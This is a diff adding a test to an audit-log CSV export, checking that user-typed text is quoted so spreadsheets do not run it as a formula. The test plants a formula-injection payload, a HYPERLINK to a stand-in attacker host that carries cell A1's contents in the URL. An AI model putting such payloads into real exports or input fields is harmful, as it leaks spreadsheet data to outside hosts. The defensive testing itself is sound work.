@@ -105,3 +105,13 @@ def test_csv_comes_in_chunks(events):
     chunks = list(csv_lines(AuditFilter(), batch=8))
     assert len(chunks) == 4  # 30 rows: three chunks of 8 (the first with the header), then the last 6
     assert sum(chunk.count("\n") for chunk in chunks) == 31
+
+
+def test_text_anyone_could_type_is_exported_as_text_not_a_formula(app):
+    """A sign-in email lands in a throttling event's object id: the export quotes it for spreadsheets."""
+    trap = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+    record("staff.login_throttled", "staff", trap, actor_label=trap)
+    db.session.commit()
+    rows = list(csv.reader(io.StringIO("".join(csv_lines(AuditFilter())))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert cells.count("'" + trap) == 2 and trap not in cells
